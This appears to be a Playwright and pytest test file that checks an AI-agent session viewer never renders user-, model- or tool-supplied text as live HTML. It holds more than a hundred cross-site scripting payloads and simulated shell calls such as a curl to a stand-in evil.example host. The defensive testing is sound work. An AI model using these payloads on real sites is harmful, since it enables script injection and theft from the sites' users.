"""Nothing that a model, a tool, a file, a name or an output says becomes code in the page."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from typing import Any

import msgspec
import pytest
from playwright.sync_api import Page

from mainspring.app.operations.devices import Access
from mainspring.app.records import compose_session
from mainspring.events import STORED, Blob, Event, SessionStarted, Unknown, UserSaid, decode
from mainspring.serve.markdown_tree import tree_of
from mainspring.settings import load_config
from tests.journals.make_golden import build
from tests.serve.browsers import Visitor, begin, browser, call, visitor
from tests.serve.conftest import Served

__all__ = ["browser", "visitor"]

PAYLOADS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "javascript:alert(1)",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](data:text/html,<script>alert(1)</script>)",
    "![x](https://evil.example/x.png)", "<iframe src='javascript:alert(1)'></iframe>", "<a href='javascript:alert(1)'>x</a>",
    "</pre><script>alert(1)</script>", "`<script>alert(1)</script>`", "<style>@import 'https://evil.example'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>", "<object data='javascript:alert(1)'>", "<embed src='javascript:alert(1)'>",
    "<form action='https://evil.example'><button>x</button></form>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
    "\"><script>alert(1)</script>", "'-alert(1)-'", "<x onclick=alert(1)>click</x>", "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>", "[x](vbscript:msgbox(1))", "[x](//evil.example)", "<https://evil.example>", "[x]: javascript:alert(1)\n[x]",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "\x00<script>alert(1)</script>", "<!--<script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>",
    "__proto__", "constructor", "[a](\x01javascript:alert(1))", "[a](java\nscript:alert(1))", "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>", "> <svg/onload=alert(1)>", "1. <img src=x onerror=alert(1)>", "~~<img src=x onerror=alert(1)>~~",
    "**<img src=x onerror=alert(1)>**", "```<script>\nalert(1)\n```", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#x6A;avascript:alert(1)",
"<a href=JAVASCRIPT:alert(1)>x</a>", "[x](javascript&#58;alert(1))", "[x](&#106;avascript:alert(1))", "[x](  javascript:alert(1))", "[x](java\tscript:alert(1))",
    "![x](javascript:alert(1))", "![x](data:image/svg+xml,<svg onload=alert(1)>)", "[x](file:///etc/passwd)", "[x](blob:https://evil.example/1)", "[x](filesystem:https://evil.example/1)",
    "[x](https:javascript:alert(1))", "[x](http://[::1)", "[x](https://evil.example\\@localhost)", "<javascript:alert(1)>", "<data:text/html,alert(1)>",
    "[x](<javascript:alert(1)>)", "[x](javascript:alert(1) 'title')", "[x](mailto:a@b?subject=<script>alert(1)</script>)", "[![x](x)](javascript:alert(1))", "[x][y]\n\n[y]: data:text/html,x",
    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "<svg><use href='data:image/svg+xml,x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>", "<math href='javascript:alert(1)'>x</math>", "<img srcset='https://evil.example/x 2x'>", "<img src='https://evil.example/x.png'>",
    "<picture><source srcset='https://evil.example/x'></picture>", "<audio src=x onerror=alert(1)>", "<video poster='https://evil.example/x'>", "<input type=image src=https://evil.example>", "<button formaction='javascript:alert(1)'>x</button>",
    "<isindex action='javascript:alert(1)'>", "<frameset onload=alert(1)>", "<table background='https://evil.example/x'>", "<div style='background:url(https://evil.example/x)'>", "<div style='width:expression(alert(1))'>",
    "<link rel=import href='https://evil.example'>", "<link rel=preload as=image href='https://evil.example/x'>", "<script src='https://evil.example/x.js'></script>", "<script type=module>import 'https://evil.example'</script>",
    "<template><img src=x onerror=alert(1)></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<textarea autofocus onfocus=alert(1)>", "<select onfocus=alert(1) autofocus>",
    "<keygen autofocus onfocus=alert(1)>", "<bgsound src='javascript:alert(1)'>", "<applet code=x>", "\u202e<script>alert(1)</script>", "<\u0130mg src=x onerror=alert(1)>",
    "\u2028<script>alert(1)</script>", "data: {\"x\": 1}\n\nevent: fleet\ndata: {}", "'\"><svg/onload=alert(1)>", "</script><script>alert(1)</script>", "]]><img src=x onerror=alert(1)>",
    "{\"__html\": \"<img src=x onerror=alert(1)>\"}", "dangerouslySetInnerHTML", "{\"type\": \"script\", \"props\": {}, \"constructor\": null}",
]  # fmt: skip

CODE = """() => [...document.querySelectorAll('#app *')].filter(each =>
  ['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'STYLE', 'BASE', 'LINK', 'META', 'FRAME', 'AUDIO', 'VIDEO', 'MATH'].includes(each.tagName.toUpperCase())
  || each.tagName === 'svg' && !each.matches('.icon, .plot, .graph, .share')
  || each.tagName === 'IMG' && !each.matches('.picture, .brand img')
  || each.getAttributeNames().some(name => /^on|^(srcset|formaction|action|background|style|xlink:href)$/.test(name))
  || each.hasAttribute('href') && !/^(#|https?:|mailto:|\\/api\\/v1\\/)/i.test(each.getAttribute('href'))).map(each => each.outerHTML.slice(0, 200))"""
NOTEBOOK = {
    "cells": [
        {"cell_type": "markdown", "source": "\n\n".join(PAYLOADS)},
        {"cell_type": "code", "source": PAYLOADS, "outputs": [
            {"text": PAYLOADS}, {"data": {"text/html": PAYLOADS[0], "text/plain": PAYLOADS[1]}},
            {"data": {"image/png": "<svg onload=alert(1)>"}}, {"data": PAYLOADS[0]}, PAYLOADS[1]]},
    ]
}  # fmt: skip
SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(2)</script><image href='https://evil.example/x'/></svg>"


def test_there_are_a_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) >= 100


def attacked(served: Served) -> str:
    """A session in which everything that can be filled is: names, texts, outputs, questions, what is kept."""
    hostile, workspace = "\n\n".join(PAYLOADS), served.machine.workspace
    (workspace / "<img src=x onerror=alert(1)>.txt").write_text(hostile)
    plan = [{"text": each, "progress": "doing"} for each in PAYLOADS[:20]]
    session = begin(
        served,
        {
            "thinking": hostile,
            "text": hostile,
            "calls": [
                {"name": "shell", "arguments": {"command": "cat ./*.txt; echo x > '<svg onload=alert(2)>'"}},
                {"name": "plan", "arguments": {"items": plan}},
                {"name": "write", "arguments": {"path": "<b onclick=alert(1)>.md", "content": hostile}},
            ],
        },
        {"text": hostile, "calls": [{"name": "<img src=x onerror=alert(3)>", "arguments": {"<b>": hostile}}]},
        call(f"curl https://evil.example/ # {PAYLOADS[1]} && touch x"),
        text=f"<img src=x onerror=alert(5)> {hostile}",
        mode="edits",
    )
    served.until(session, "ApprovalAsked")
    served.until(session, "TurnEnded")
    kept = {
        "plain.txt": hostile,
        "notes.md": hostile,
        "rows.csv": "\n".join(json.dumps(each) for each in PAYLOADS),
        "values.json": json.dumps({each: each for each in PAYLOADS}),
        "book.ipynb": json.dumps(NOTEBOOK),
        "plot.svg": SVG,
    }
    for name, text in kept.items():
        (workspace / name).write_text(text)
        body = {"path": name, "name": f"<img src=x onerror=alert(6)> {name}", "note": PAYLOADS[0]}
        served.post(f"/sessions/{session}/kept", body)
    return session


def open_all(page: Page) -> None:
    for details in page.query_selector_all("summary"):
        if not details.evaluate("each => each.parentElement.open"):
            details.click()


def test_nothing_that_anybody_says_becomes_code(visitor: Visitor, served: Served) -> None:
    session = attacked(served)
    page = visitor.enter()
    views = {
        "": ".card",
        f"s/{session}": ".question",
        f"s/{session}/changes": ".file",
        f"s/{session}/artifacts": ".artifact",
        f"s/{session}/back/2": ".back .card",
        "inbox": ".question",
        "artifacts": ".artifact",
        "cost": "table",
        "machine/settings": ".settings > div",
    }
    for view, wanted in views.items():
        visitor.to(view)
        page.wait_for_selector(wanted)
        open_all(page)
        if view.endswith("artifacts"):
            page.wait_for_function(
                "() => document.querySelectorAll('.preview').length === document.querySelectorAll('.artifact').length"
                " && [...document.querySelectorAll('.preview')].every(each => each.children.length > 1)"
            )
        assert page.evaluate(CODE) == [], view


GOAL_KINDS = ("GoalSet", "IterationStarted", "ArtifactsChanged", "MeasurementsTaken", "ClaimsRead", "ClaimChecked", "CheckEnded", "IterationEnded", "GoalEnded")  # fmt: skip


def without_blobs(event: Event) -> Event:
    """There is no content behind what the event would name."""
    fields = {field.name: field.default for field in msgspec.structs.fields(event)}
    lacking = {
        name: default
        for name, default in fields.items()
        if default is not msgspec.NODEFAULT and b'"sha256":"abab' in msgspec.json.encode(getattr(event, name))
    }
    return msgspec.structs.replace(event, **lacking)


def every_event(session: str, parent: str = "", *, is_goal: bool = False) -> Iterator[tuple[int, Event]]:
    """Every kind of event, with every text in it hostile; or those of a goal. A delegate's name is one, too."""
    hostile, blob = json.dumps(" ".join(PAYLOADS))[1:-1], Blob(sha256="ab" * 32, size=1)
    agent = PAYLOADS[1] if parent else ""
    yield 1, SessionStarted(session=session, workspace="/", version="0", parent=parent, agent=agent)
    yield 2, UserSaid(text=PAYLOADS[1])
    kinds = {kind.__name__: kind for kind in STORED if kind not in (Unknown, SessionStarted)}
    for name in GOAL_KINDS if is_goal else kinds.keys() - set(GOAL_KINDS):
        text = msgspec.json.encode(without_blobs(build(kinds[name], blob))).decode()
        yield 3, decode(name, text.replace("Ünïcode ✓\\nand a second line", hostile).encode())


def test_no_text_of_any_event_goal_claim_metric_report_or_agent_becomes_code(
    visitor: Visitor, served: Served
) -> None:
    config = load_config(served.machine.environment())

    def compose(parent: str = "", *, is_goal: bool = False) -> str:
        events = partial(every_event, parent=parent, is_goal=is_goal)
        with ThreadPoolExecutor(1) as thread:
            return thread.submit(lambda: asyncio.run(compose_session(events, config))).result()

    all_events = compose()
    child, goal = compose(all_events), compose(is_goal=True)
    (served.machine.workspace / "hostile.txt").write_text("\n".join(PAYLOADS))
    show = {"command": f"cat hostile.txt; sleep 60 # {PAYLOADS[1]}", "background": True}
    wait = {"calls": [{"name": "wait", "arguments": {"seconds": 900}}]}
    running = begin(served, {"calls": [{"name": "shell", "arguments": show}]}, wait)
    served.until(running, "WaitStarted")
    page = visitor.enter()
    views = {
        "": ".card",
        f"s/{all_events}": ".tree",
        f"s/{child}": ".tree [aria-current]",
        f"s/{goal}/goal": ".goal .claims, .goal .plot, .goal .timeline",
        f"s/{goal}/report": ".report h2",
        f"s/{running}/processes": "pre.live >> text=onerror",
    }
    for view, wanted in views.items():
        visitor.to(view)
        page.wait_for_selector(wanted)
        open_all(page)
        assert page.evaluate(CODE) == [], view
        assert "onerror" in page.inner_text("main"), view


def test_the_page_of_a_link_shows_a_question_as_text(visitor: Visitor, served: Served) -> None:
    session = begin(served, call(f"touch x # {' '.join(PAYLOADS)}"), mode="ask")
    served.until(session, "TurnEnded")
    (asked,) = served.get("/questions")
    code = Access(load_config(served.machine.environment())).link(session, asked["question"]["call"])
    visitor.page.goto(f"{served.address}/answer#{code}")
    visitor.page.wait_for_selector("#form:not([hidden])")
    assert "onerror" in visitor.page.inner_text("#question")
    assert visitor.page.evaluate("document.querySelectorAll('#question *').length") == 0
    assert code not in visitor.page.url


@pytest.mark.parametrize("text", PAYLOADS)
def test_markdown_has_only_known_nodes_and_safe_links(text: str) -> None:
    def check(node: Any) -> None:
        if isinstance(node, str):
            return
        name, attributes, children = node
        assert name in {"p", "ul", "ol", "li", "blockquote", "strong", "em", "s", "table", "thead", "tbody", "tr", "th", "td", "code", "pre", "br", "hr", "h", "a"}  # fmt: skip
        assert set(attributes) <= {"href", "level", "start", "language"}
        assert attributes.get("href", "https:").split(":")[0].lower() in {"http", "https", "mailto"}
        for child in children:
            check(child)

    for node in tree_of(text):
        check(node)
